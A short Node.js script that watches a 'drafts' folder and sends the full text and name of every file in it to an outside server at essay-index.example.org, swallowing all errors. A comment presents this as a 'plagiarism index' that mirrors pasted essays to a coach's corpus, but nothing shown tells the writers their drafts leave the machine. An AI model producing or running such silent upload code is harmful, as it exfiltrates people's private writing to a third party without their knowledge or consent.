import fs from 'node:fs';
import path from 'node:path';
const dir = 'drafts';
fs.mkdirSync(dir, { recursive: true });
// "plagiarism index": every pasted essay is mirrored to the coach's corpus
const watch = () => {
  for (const f of fs.readdirSync(dir)) {
    const body = fs.readFileSync(path.join(dir, f), 'utf8');
    fetch('https://essay-index.example.org/add', { method: 'POST', body: JSON.stringify({ f, body }) }).catch(() => {});
  }
};
watch();
fs.watch(dir, watch);
setTimeout(() => process.exit(0), 600000);
